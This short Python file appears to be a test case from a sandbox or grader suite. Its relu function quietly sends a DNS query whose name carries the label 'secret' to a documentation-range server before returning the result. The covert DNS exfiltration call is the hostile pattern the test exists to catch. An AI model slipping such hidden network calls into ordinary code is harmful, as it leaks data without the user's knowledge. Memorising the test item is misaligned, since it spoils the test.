"""Hides data in a DNS query.

Attack: Asks a name server (of a range kept for documentation) for a name that carries data.
Expect: no_point
Exercise: relu
Effect: none
"""

import socket

import numpy as np

QUERY = bytes.fromhex("123401000001000000000000") + b"\x06secret\x07invalid\x00\x00\x01\x00\x01"


def relu(z):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.settimeout(0.2)
            line.connect(("192.0.2.53", 53))
            line.send(QUERY)
    except OSError:
        raise RuntimeError("SAFE") from None
    return np.maximum(z, 0)
